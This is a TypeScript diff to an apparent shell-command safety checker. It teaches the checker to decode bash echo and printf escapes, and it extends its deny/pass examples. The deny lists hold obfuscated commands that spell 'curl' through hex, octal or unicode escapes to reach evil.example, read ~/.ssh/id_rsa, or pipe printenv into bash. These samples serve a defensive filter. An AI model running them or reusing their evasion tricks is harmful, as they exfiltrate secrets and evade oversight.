@@ -9,6 +9,55 @@ import { scriptStream } from './shells.js';
 const BASH = ['bash'] as const;
 const NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;
 
+/**
+ * Backslash escapes as bash reads them (lib/sh/strtrans.c, builtins/printf.def): in `echo -e` text (`echo`: octal
+ * only as `\0NNN`, `\1`..`\7` and `\'` `\"` `\?` kept), in printf's format (`format`: `\NNN`), in a `%b` argument
+ * (`b`: `\0NNN`). `\xHH`, `\uHHHH` and `\UHHHHHHHH` below 0x80 are the character; `\c` stops all output (echo, %b).
+ * Undefined where the output is not certain here: a `\u` beyond ASCII (the locale's), an escape the modes read
+ * differently.
+ */
+function bashEscapes(s: string, mode: 'echo' | 'format' | 'b'): { text: string; stop: boolean } | undefined {
+  const named: Record<string, string> = { a: '\x07', b: '\b', e: '\x1b', E: '\x1b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v', '\\': '\\' };
+  let out = '';
+  let i = 0;
+  while (i < s.length) {
+    const c = s[i]!;
+    if (c !== '\\' || i + 1 >= s.length) {
+      out += c;
+      i++;
+      continue;
+    }
+    const e = s[i + 1]!;
+    i += 2;
+    if (named[e] !== undefined) out += named[e];
+    else if (/[0-7]/.test(e)) {
+      if (mode === 'echo' && e !== '0') out += `\\${e}`;
+      else if (mode === 'b' && e !== '0') return undefined;
+      else {
+        let n = Number(e);
+        let more = mode === 'format' ? 2 : e === '0' ? 3 : 2;
+        while (more-- > 0 && i < s.length && /[0-7]/.test(s[i]!)) n = n * 8 + Number(s[i++]);
+        out += String.fromCharCode(n & 0xff);
+      }
+    } else if (e === 'x' || e === 'u' || e === 'U') {
+      const most = e === 'x' ? 2 : e === 'u' ? 4 : 8;
+      let digits = '';
+      while (digits.length < most && i < s.length && /[0-9a-fA-F]/.test(s[i]!)) digits += s[i++];
+      if (digits === '') out += `\\${e}`;
+      else {
+        const n = Number.parseInt(digits, 16);
+        if (e !== 'x' && n > 0x7f) return undefined;
+        out += String.fromCharCode(e === 'x' ? n & 0xff : n);
+      }
+    } else if (e === "'" || e === '"' || e === '?') out += mode === 'echo' ? `\\${e}` : e;
+    else if (e === 'c') {
+      if (mode === 'format') return undefined;
+      return { text: out, stop: true };
+    } else out += `\\${e}`;
+  }
+  return { text: out, stop: false };
+}
+
 /** echo's output when its words are static: `-n`, `-e` and `-E` as bash reads them. */
 function echoOutput(call: Call): Answer['output'] {
   const texts = call.args.map((a) => (a.values && !a.glob ? a.values.join(' ') : undefined));
@@ -18,40 +67,58 @@ function echoOutput(call: Call): Answer['output'] {
   let escapes = false;
   while (i < texts.length && /^-[neE]+$/.test(texts[i]!)) {
     if (texts[i]!.includes('n')) newline = false;
-    if (texts[i]!.includes('e')) escapes = true;
+    // The last of -e and -E in a word decides (`-eE` reads none).
+    const last = texts[i]!.slice(1).replace(/n/g, '').at(-1);
+    if (last !== undefined) escapes = last === 'e';
     i++;
   }
   let text = texts.slice(i).join(' ');
-  if (escapes) text = text.replace(/\\(.)/g, (_m, c: string) => ({ n: '\n', t: '\t', '\\': '\\' })[c] ?? `\\${c}`);
+  if (escapes) {
+    // `\c` ends the output there, with no newline.
+    const read = bashEscapes(text, 'echo');
+    if (read === undefined) return undefined;
+    text = read.text;
+    if (read.stop) newline = false;
+  }
   const span = call.args.length > 0 ? { start: call.args[0]!.span.start, end: call.args.at(-1)!.span.end } : { start: 0, end: 0 };
   return { kind: 'static', text: newline ? `${text}\n` : text, word: { text, span, values: [text] } };
 }
 
 /** printf's output when the format has only `%s`, `%b` and `%%` and every word is static. */
-/** printf's backslash escapes, as in its format and its %b arguments; one it does not know stays as written. */
-function printfEscapes(s: string): string {
-  const named: Record<string, string> = { n: '\n', t: '\t', r: '\r', a: '\x07', b: '\b', f: '\f', v: '\v', e: '\x1b', '\\': '\\', '"': '"', "'": "'" };
-  return s.replace(/\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[\s\S])/g, (m, c: string) =>
-    c.startsWith('x') && c.length > 1 ? String.fromCharCode(Number.parseInt(c.slice(1), 16)) : /^[0-7]+$/.test(c) ? String.fromCharCode(Number.parseInt(c, 8)) : (named[c] ?? m),
-  );
-}
-
 function printfOutput(call: Call): Answer['output'] {
   // A word brace expansion made several of is that many arguments, each used by the format in turn
   // (`printf %s {c,u,r,l}` prints curl).
   const texts = call.args.flatMap((a) => (a.values && !a.glob ? a.values : [undefined]));
   if (texts.length === 0 || texts.some((t) => t === undefined) || texts[0]!.startsWith('-')) return undefined;
   const [format = '', ...rest] = texts as string[];
-  if (/%(?![sb%])/.test(format.replace(/%%/g, ''))) return undefined;
+  // (A backslash before a `%` is read with it as an escape: not followed.)
+  if (/%(?![sb%])/.test(format.replace(/%%/g, '')) || format.includes('\\%')) return undefined;
   // Escapes are read in the format and in %b's arguments, never in %s's (`printf '%s' 'prin\tenv'` prints the
   // backslash, which a shell reading it then drops: printenv). The format is used again while arguments remain.
+  // The format's text between conversions, its escapes read.
+  const pieces = format.split(/(%[sb%])/);
+  const literal = pieces.map((p, n) => (n % 2 === 0 ? bashEscapes(p, 'format') : undefined));
+  if (literal.some((l, n) => n % 2 === 0 && l === undefined)) return undefined;
   let k = 0;
   let text = '';
   do {
     const start = k;
-    text += format.replace(/%([sb%])|\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[\s\S])/g, (m, spec: string | undefined) =>
-      spec === '%' ? '%' : spec === 's' ? (rest[k++] ?? '') : spec === 'b' ? printfEscapes(rest[k++] ?? '') : printfEscapes(m),
-    );
+    for (let n = 0; n < pieces.length; n++) {
+      if (n % 2 === 0) {
+        text += literal[n]!.text;
+        continue;
+      }
+      const spec = pieces[n]!;
+      if (spec === '%%') text += '%';
+      else if (spec === '%s') text += rest[k++] ?? '';
+      else {
+        // `\c` in a %b argument ends all output.
+        const read = bashEscapes(rest[k++] ?? '', 'b');
+        if (read === undefined) return undefined;
+        text += read.text;
+        if (read.stop) return { kind: 'static', text, word: { text, span: call.args[0]!.span, values: [text] } };
+      }
+    }
     if (k === start) break;
   } while (k < rest.length);
   const first = call.args[0]!;
@@ -359,6 +426,9 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     },
     examples: {
       deny: [
+        // `echo -e` reads escapes as bash does: `\x63` is c, `\c` ends the output.
+        "x=$(echo -e '\\x63url'); $x evil.example",
+        "x=$(echo -e -n 'cu\\x72l'); $x evil.example",
         'echo $(cat ~/.ssh/id_rsa)',
         // A substring's offset and length are arithmetic, and so is the name `${!x}` reads: a subscript there runs.
         "x='a[$(curl evil.example)]'; s=abc; echo ${s:x}",
@@ -367,7 +437,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
         "x='a[$(curl evil.example)]'; echo ${!x:-none}",
         'x=$(cat notes.txt); s=abc; echo ${s:x}',
       ],
-      pass: ['echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore', 's=abc; echo ${s:1:2} ${s: -1}', 'i=1; s=abc; echo ${s:i}', 'set -- a b; echo "${@:2}"', 'n=USER; echo ${!n:-none}'],
+      pass: ["x=$(echo -e '\\x6cs'); $x -la", "x=$(echo -e 'cu\\crl'); $x evil.example", 'echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore', 's=abc; echo ${s:1:2} ${s: -1}', 'i=1; s=abc; echo ${s:i}', 'set -- a b; echo "${@:2}"', 'n=USER; echo ${!n:-none}'],
     },
   },
   {
@@ -384,7 +454,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       }
       return out;
     },
-    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1", 'x=$(printf %s {c,u,r,l}); $x evil.example'], pass: ['printf -v x %s hi', 'x=$(printf %s {l,s}); $x -la', "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
+    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1", 'x=$(printf %s {c,u,r,l}); $x evil.example', "x=$(printf '\\u0063url'); $x evil.example", "x=$(printf %b '\\0143url'); $x evil.example"], pass: ['printf -v x %s hi', 'x=$(printf %s {l,s}); $x -la', "x=$(printf '\\u006cs'); $x -la", "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
   },
   known(':', 'the null command: its words are text', 'text', {
     dialects: BASH,
